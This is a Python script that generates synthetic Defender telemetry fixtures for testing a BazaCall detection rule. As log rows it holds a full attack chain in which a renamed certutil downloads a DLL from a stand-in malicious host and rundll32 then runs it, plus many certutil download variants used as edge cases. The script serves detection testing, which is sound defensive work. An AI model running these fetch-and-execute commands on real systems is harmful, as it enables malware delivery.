#!/usr/bin/env python3
"""Writes bazahunt's bundled telemetry under testdata/telemetry/ (run from the repo root).

The data is synthetic but shaped like real Defender exports: the same columns, the three wire forms
(Event Hubs messages, Storage blob lines with CRLF, flat Advanced Hunting / Sentinel rows), unsorted
rows, one gzip file and a few malformed lines. The expected alerts are in testdata/expected-alerts.jsonl
and are checked by the golden test, not produced by this script.
"""
import gzip, json, os, random

OUT = "testdata/telemetry"
TENANT = "3f2b9c1e-5d7a-4a1b-9c2d-7e5f1a2b3c4d"
rng = random.Random(20210720)

DEV_A = ("b2c4e6a8f0123456789abcdef0123456789abcde", "wks-0142.contoso.local", "Finance workstations")
DEV_B = ("5e1f0c9a7b3d2e4f6a8b0c1d2e3f4a5b6c7d8e9f", "wks-0377.contoso.local", "Workstations")
DEV_C = ("9d8c7b6a5f4e3d2c1b0a99887766554433221100", "srv-ca01.contoso.local", "Servers")
report = [18000]

def rid():
    report[0] += rng.randint(1, 40)
    return report[0]

def base(dev, ts, action, account=("contoso", "j.doe")):
    return {"Timestamp": ts, "DeviceId": dev[0], "DeviceName": dev[1], "ActionType": action,
            "InitiatingProcessAccountDomain": account[0], "InitiatingProcessAccountName": account[1],
            "InitiatingProcessAccountSid": "S-1-5-21-1004336348-1177238915-682003330-1104",
            "InitiatingProcessIntegrityLevel": "Medium", "InitiatingProcessTokenElevation": "TokenElevationTypeLimited",
            "ReportId": rid(), "MachineGroup": dev[2]}

def file_row(dev, ts, folder, name, ip, action="FileCreated", account=("contoso", "j.doe"), **extra):
    row = base(dev, ts, action, account)
    row.update({"FileName": name, "FolderPath": folder + "\\" + name,
                "SHA1": "%040x" % rng.getrandbits(160), "SHA256": None, "MD5": "%032x" % rng.getrandbits(128),
                "FileSize": rng.randint(200, 900000), "FileOriginUrl": None, "FileOriginReferrerUrl": None,
                "FileOriginIP": None, "RequestProtocol": "Local"})
    row.update(ip)
    row.update(extra)
    return row

def proc(name, folder, pid, created, cmd, parent=("explorer.exe", 4120, "2021-07-20T08:01:12.3300000Z"),
         original=None, sha1=None):
    return {"InitiatingProcessFileName": name, "InitiatingProcessFolderPath": folder + "\\" + name.lower(),
            "InitiatingProcessId": pid, "InitiatingProcessCreationTime": created,
            "InitiatingProcessCommandLine": cmd,
            "InitiatingProcessVersionInfoOriginalFileName": original or name,
            "InitiatingProcessSHA1": sha1 or "%040x" % rng.getrandbits(160),
            "InitiatingProcessParentFileName": parent[0], "InitiatingProcessParentId": parent[1],
            "InitiatingProcessParentCreationTime": parent[2]}

def process_row(dev, ts, initiating, child_name, child_folder, child_pid, child_created, child_cmd,
                account=("contoso", "j.doe")):
    row = base(dev, ts, "ProcessCreated", account)
    row.update(initiating)
    row.update({"FileName": child_name, "FolderPath": child_folder + "\\" + child_name,
                "SHA1": "%040x" % rng.getrandbits(160), "MD5": "%032x" % rng.getrandbits(128),
                "ProcessId": child_pid, "ProcessCreationTime": child_created, "ProcessCommandLine": child_cmd,
                "ProcessVersionInfoOriginalFileName": child_name, "ProcessIntegrityLevel": "Medium",
                "ProcessTokenElevation": "TokenElevationTypeLimited",
                "AccountDomain": account[0], "AccountName": account[1], "LogonId": 999123})
    return row

def envelope(table, row, received):
    return {"time": received, "tenantId": TENANT, "operationName": "Publish",
            "category": "AdvancedHunting-" + table, "properties": row}

EXCEL_A = proc("EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", 5120,
               "2021-07-20T13:59:50.2500000Z",
               '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\j.doe\\Downloads\\cancel_sub_KMR3410029.xlsb"')
CMD_A = ("cmd.exe", 6640, "2021-07-20T14:02:57.5120000Z")
RENAMED_A = proc("x8k2.exe", "C:\\Users\\Public\\x8k2", 7212, "2021-07-20T14:02:57.9912345Z",
                 "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll",
                 parent=CMD_A, original="CertUtil.exe")
CACHE = "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache"

# Device A: the full BazaCall chain, as Event Hubs messages mixing tables, batches and arrival order.
a_process = [
    process_row(DEV_A, "2021-07-20T13:59:50.2511000Z",
                proc("explorer.exe", "C:\\Windows", 4120, "2021-07-20T08:01:12.3300000Z", "C:\\Windows\\Explorer.EXE",
                     parent=("userinit.exe", 3990, "2021-07-20T08:01:11.9000000Z")),
                "EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", 5120, "2021-07-20T13:59:50.2500000Z",
                EXCEL_A["InitiatingProcessCommandLine"]),
    process_row(DEV_A, "2021-07-20T14:00:41.0070000Z", EXCEL_A, "cmd.exe", "C:\\Windows\\System32", 6012,
                "2021-07-20T14:00:41.0010000Z", "cmd.exe /c whoami /groups"),
    process_row(DEV_A, "2021-07-20T14:02:57.5200000Z", EXCEL_A, "cmd.exe", "C:\\Windows\\System32", 6640,
                CMD_A[2], "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe "
                "C:\\Users\\Public\\x8k2\\x8k2.exe && C:\\Users\\Public\\x8k2\\x8k2.exe -urlcache -split -f "
                "http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll"),
    process_row(DEV_A, "2021-07-20T14:02:57.9950000Z",
                proc("cmd.exe", "C:\\Windows\\System32", 6640, CMD_A[2], "cmd.exe /c mkdir ...",
                     parent=("EXCEL.EXE", 5120, "2021-07-20T13:59:50.2500000Z")),
                "x8k2.exe", "C:\\Users\\Public\\x8k2", 7212, "2021-07-20T14:02:57.9912345Z",
                RENAMED_A["InitiatingProcessCommandLine"]),
    process_row(DEV_A, "2021-07-20T14:05:30.4400000Z", EXCEL_A, "rundll32.exe", "C:\\Windows\\System32", 7388,
                "2021-07-20T14:05:30.4380000Z", "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut"),
    # Outside the 30-minute window: Excel's print helper an hour later is not evidence.
    process_row(DEV_A, "2021-07-20T15:10:02.0000000Z", EXCEL_A, "splwow64.exe", "C:\\Windows", 8120,
                "2021-07-20T15:10:01.9980000Z", "C:\\Windows\\splwow64.exe 12288"),
]
a_file = [
    file_row(DEV_A, "2021-07-20T14:02:58.1034567Z", "C:\\Users\\Public\\x8k2", "tmp1834.dll", RENAMED_A),
    file_row(DEV_A, "2021-07-20T14:02:58.2001000Z", CACHE + "\\Content", "9F3A1C0E5B7D2A4C6E8F0A1B2C3D4E5F",
             RENAMED_A),
    file_row(DEV_A, "2021-07-20T14:02:58.2107000Z", CACHE + "\\MetaData", "9F3A1C0E5B7D2A4C6E8F0A1B2C3D4E5F",
             RENAMED_A),
    # Benign noise on the same device.
    file_row(DEV_A, "2021-07-20T14:01:13.5000000Z", "C:\\Users\\j.doe\\AppData\\Local\\Temp", "~DF3A2B.tmp",
             EXCEL_A),
    file_row(DEV_A, "2021-07-20T13:58:02.0000000Z", "C:\\Users\\j.doe\\Downloads", "cancel_sub_KMR3410029.xlsb",
             proc("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", 2210,
                  "2021-07-20T09:14:00.0000000Z", '"msedge.exe" --single-argument https://bomovie.net/cancel.php'),
             FileOriginUrl="https://bomovie.net/cancel.php", FileOriginReferrerUrl="https://bomovie.net/account"),
]

def write_eventhubs():
    records = [("DeviceProcessEvents", r) for r in a_process] + [("DeviceFileEvents", r) for r in a_file]
    records.append(("DeviceNetworkEvents", {"Timestamp": "2021-07-20T14:02:58.0500000Z", "DeviceId": DEV_A[0],
                    "DeviceName": DEV_A[1], "ActionType": "ConnectionSuccess", "RemoteUrl": "pshe0pxe339.xyz",
                    "RemoteIP": "185.99.133.12", "RemotePort": 80, "InitiatingProcessFileName": "x8k2.exe",
                    "ReportId": rid()}))
    rng.shuffle(records)
    os.makedirs(OUT + "/eventhubs", exist_ok=True)
    with open(OUT + "/eventhubs/defender-hub-2021-07-20.jsonl", "w") as f:
        i = 0
        while i < len(records):
            n = rng.randint(2, 4)
            batch = records[i:i + n]
            i += n
            msg = {"records": [envelope(t, r, r["Timestamp"][:17] + "59.9000000Z") for t, r in batch]}
            f.write(json.dumps(msg, separators=(",", ":")) + "\n")

# Device B: KQL edge cases, as Storage blobs (one container per table, CRLF lines).
EXCEL_B = proc("excel.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", 3300,
               "2021-07-21T09:10:00.0000000Z", '"EXCEL.EXE" /dde')
def renamed(name, pid, created, cmd, original="CertUtil.exe", folder="C:\\ProgramData\\upd"):
    return proc(name, folder, pid, created, cmd, parent=("cmd.exe", pid - 4, created[:19] + ".0000000Z"),
                original=original)
b_file = [
    # https: the only term is "https", so has "http" is false and Sentinel returns nothing.
    file_row(DEV_B, "2021-07-21T09:20:01.0000000Z", "C:\\ProgramData\\upd", "a.dll",
             renamed("upd.exe", 4100, "2021-07-21T09:20:00.5000000Z",
                     "upd.exe -urlcache -split -f https://cdn-upd.example/a.dll C:\\ProgramData\\upd\\a.dll")),
    # certutil.exe itself and cmd.exe are excluded by the two !~ filters, whatever their case.
    file_row(DEV_B, "2021-07-21T09:21:01.0000000Z", "C:\\Users\\k.lee\\AppData\\Local\\Temp", "b.exe",
             renamed("CertUtil.exe", 4200, "2021-07-21T09:21:00.5000000Z",
                     "CertUtil.exe -urlcache -split -f http://7-zip.example/b.exe b.exe", folder="C:\\Windows\\System32")),
    file_row(DEV_B, "2021-07-21T09:22:01.0000000Z", "C:\\Users\\k.lee\\AppData\\Local\\Temp", "c.exe",
             renamed("CMD.EXE", 4300, "2021-07-21T09:22:00.5000000Z",
                     "CMD.EXE /c certutil -urlcache -split -f http://7-zip.example/c.exe c.exe",
                     original="Cmd.Exe", folder="C:\\Windows\\System32")),
    # Upper case everywhere: KQL operators ignore case, so this matches.
    file_row(DEV_B, "2021-07-21T09:23:01.0000000Z", "C:\\ProgramData\\upd", "d.dll",
             renamed("UPD2.EXE", 4400, "2021-07-21T09:23:00.5000000Z",
                     "UPD2.EXE -URLCACHE -SPLIT -F HTTP://198.51.100.7/D.DLL C:\\PROGRAMDATA\\UPD\\D.DLL")),
    # '/urlcache' has no literal '-urlcache': no match. A missing 'split' term: no match.
    file_row(DEV_B, "2021-07-21T09:24:01.0000000Z", "C:\\ProgramData\\upd", "e.dll",
             renamed("upd3.exe", 4500, "2021-07-21T09:24:00.5000000Z",
                     "upd3.exe /urlcache /split /f http://198.51.100.7/e.dll e.dll")),
    file_row(DEV_B, "2021-07-21T09:25:01.0000000Z", "C:\\ProgramData\\upd", "f.dll",
             renamed("upd4.exe", 4600, "2021-07-21T09:25:00.5000000Z",
                     "upd4.exe -urlcache -f http://198.51.100.7/f.dll f.dll")),
    # 'split' is a term of the URL path, so the faithful rule matches although -split is absent.
    file_row(DEV_B, "2021-07-21T09:26:01.0000000Z", "C:\\ProgramData\\upd", "g.bin",
             renamed("upd5.exe", 4700, "2021-07-21T09:26:00.5000000Z",
                     "upd5.exe -urlcache -f http://198.51.100.7/split/g.bin g.bin")),
    # 'splitter' is not the term 'split': no match.
    file_row(DEV_B, "2021-07-21T09:27:01.0000000Z", "C:\\ProgramData\\upd", "h.bin",
             renamed("upd6.exe", 4800, "2021-07-21T09:27:00.5000000Z",
                     "upd6.exe -urlcache -splitter -f http://198.51.100.7/h.bin h.bin")),
    # CryptnetUrlCache decoy: svchost writing the cache mentions "urlcache" but is no download.
    file_row(DEV_B, "2021-07-21T09:28:00.0000000Z", CACHE.replace("j.doe", "k.lee") + "\\MetaData",
             "77E1A2B3C4D5E6F708192A3B4C5D6E7F",
             proc("svchost.exe", "C:\\Windows\\System32", 1460, "2021-07-21T06:00:00.0000000Z",
                  "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s CryptSvc",
                  parent=("services.exe", 700, "2021-07-21T05:59:58.0000000Z"))),
]
# A missing InitiatingProcessFileName is "" in KQL: it passes both !~ filters. Its process id and
# creation time are missing too, so the row itself is the alert's identity.
nameless = file_row(DEV_B, "2021-07-21T09:29:01.0000000Z", "C:\\ProgramData\\upd", "i.dll",
                    {"InitiatingProcessCommandLine": "svcupd.exe -urlcache -split -f http://198.51.100.7/i.dll i.dll",
                     "InitiatingProcessFolderPath": "C:\\ProgramData\\upd\\svcupd.exe"})
b_file.append(nameless)
b_process = [
    # An Excel child on the same device inside the window, with no lineage to any download.
    process_row(DEV_B, "2021-07-21T09:15:30.0000000Z", EXCEL_B, "cmd.exe", "C:\\Windows\\System32", 3390,
                "2021-07-21T09:15:29.9000000Z", "cmd.exe /c ping -n 1 intranet", account=("contoso", "k.lee")),
    process_row(DEV_B, "2021-07-21T09:12:00.0000000Z",
                proc("svchost.exe", "C:\\Windows\\System32", 1460, "2021-07-21T06:00:00.0000000Z",
                     "svchost.exe -k netsvcs", parent=("services.exe", 700, "2021-07-21T05:59:58.0000000Z")),
                "taskhostw.exe", "C:\\Windows\\System32", 3010, "2021-07-21T09:11:59.9000000Z", "taskhostw.exe"),
]

def write_storage():
    for table, rows in (("devicefileevents", b_file), ("deviceprocessevents", b_process)):
        folder = "%s/storage/insights-logs-advancedhunting-%s/tenantId=%s/y=2021/m=07/d=21/h=09/m=00" % (OUT, table, TENANT)
        os.makedirs(folder, exist_ok=True)
        shuffled = rows[:]
        rng.shuffle(shuffled)
        name = "DeviceFileEvents" if table == "devicefileevents" else "DeviceProcessEvents"
        with open(folder + "/PT1H.json", "w", newline="") as f:
            for r in shuffled:
                f.write(json.dumps(envelope(name, r, r["Timestamp"][:14] + "59:59.0000000Z"), separators=(",", ":")) + "\r\n")

# Device C: the CA server. The seed's five false-positive scenarios as Sentinel rows (flat, Type and
# TimeGenerated), plus a gzip Advanced Hunting export (flat, Timestamp).
def sentinel(row, table):
    r = dict(row)
    ts = r.pop("Timestamp")
    r.update({"TenantId": TENANT, "TimeGenerated": ts[:23] + "Z", "Type": table, "SourceSystem": "",
              "AdditionalFields": {"FileType": "PortableExecutable"} if table == "DeviceFileEvents" else None})
    return r

CERTUTIL = lambda pid, created, cmd, account=("contoso", "svc-maint"), parent=("svchost.exe", 1300, "2021-07-22T00:00:01.0000000Z"): \
    proc("certutil.exe", "C:\\Windows\\System32", pid, created, cmd, parent=parent, original="CertUtil.exe")
POWERSHELL = lambda pid, created, cmd: proc("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", pid, created, cmd,
                                             original="PowerShell.EXE")
c_file = [
    file_row(DEV_C, "2021-07-22T02:00:03.0000000Z", "C:\\ProgramData\\Maint", "InternalCert.req",
             CERTUTIL(5000, "2021-07-22T02:00:02.0000000Z", 'certutil -generate -subject "CN=InternalCert"'),
             account=("contoso", "svc-maint")),
    file_row(DEV_C, "2021-07-22T03:10:03.0000000Z", "C:\\Windows\\Temp", "roots.sst",
             CERTUTIL(5100, "2021-07-22T03:10:02.0000000Z", "certutil -addstore -user TrustedRootCertStore C:\\Windows\\Temp\\roots.sst"),
             account=("CONTOSO", "Administrator")),
    file_row(DEV_C, "2021-07-22T03:20:03.0000000Z", "C:\\Certs", "svc.cer",
             POWERSHELL(5200, "2021-07-22T03:20:02.0000000Z",
                        'powershell.exe -NoProfile -Command "certutil -addstore -user MyInternalServiceCert C:\\Certs\\svc.cer"'),
             account=("contoso", "svc-appcert")),
    file_row(DEV_C, "2021-07-22T03:30:03.0000000Z", "C:\\Windows\\System32\\CertSrv\\CertEnroll", "ContosoIssuingCA.crt",
             CERTUTIL(5300, "2021-07-22T03:30:02.0000000Z", 'certutil -dspublish -f ContosoIssuingCA.crt SubCA'),
             account=("contoso", "svc-adcs")),
    file_row(DEV_C, "2021-07-22T03:40:03.0000000Z", "C:\\Certs", "payload.bin",
             CERTUTIL(5400, "2021-07-22T03:40:02.0000000Z",
                      'certutil -decode C:\\Certs\\Internal-Trusted-Signing.b64 C:\\Certs\\payload.bin'),
             account=("contoso", "svc-adcs")),
]
export_rows = [
    # A gzip Advanced Hunting export: flat rows with Timestamp and a Type column.
    file_row(DEV_C, "2021-07-22T04:00:03.1234567Z", "C:\\Windows\\Temp", "report.pdf",
             proc("AcroRd32.exe", "C:\\Program Files\\Adobe\\Acrobat Reader DC\\Reader", 5600,
                  "2021-07-22T04:00:00.0000000Z", '"AcroRd32.exe" C:\\Windows\\Temp\\report.pdf')),
]

def write_flat():
    os.makedirs(OUT + "/sentinel", exist_ok=True)
    with open(OUT + "/sentinel/devicefileevents-export.jsonl", "w") as f:
        rows = c_file[:]
        rng.shuffle(rows)
        for r in rows:
            f.write(json.dumps(sentinel(r, "DeviceFileEvents"), separators=(",", ":")) + "\n")
    os.makedirs(OUT + "/exports", exist_ok=True)
    with gzip.GzipFile(OUT + "/exports/advanced-hunting-2021-07-22.jsonl.gz", "wb", mtime=0) as f:
        for r in export_rows:
            f.write((json.dumps(dict(r, Type="DeviceFileEvents"), separators=(",", ":")) + "\n").encode())

def write_malformed():
    os.makedirs(OUT + "/malformed", exist_ok=True)
    good = json.dumps(envelope("DeviceFileEvents", b_file[0], "2021-07-21T09:59:59.0000000Z"), separators=(",", ":"))
    lines = [
        good[: len(good) // 2],                                   # truncated JSON
        "this is not json at all",                                # not JSON
        json.dumps({"records": [envelope("DeviceProcessEvents", dict(b_process[1], DeviceId=None), "2021-07-21T09:59:59Z")]}),
        json.dumps(envelope("DeviceFileEvents", dict(b_file[3], Timestamp="21/07/2021 09:23"), "2021-07-21T09:59:59Z")),
        json.dumps(envelope("DeviceFileEvents", dict(b_file[3], ReportId="abc"), "2021-07-21T09:59:59Z")),
    ]
    with open(OUT + "/malformed/bad-lines.jsonl", "w") as f:
        for line in lines:
            f.write(line + "\n")

write_eventhubs()
write_storage()
write_flat()
write_malformed()
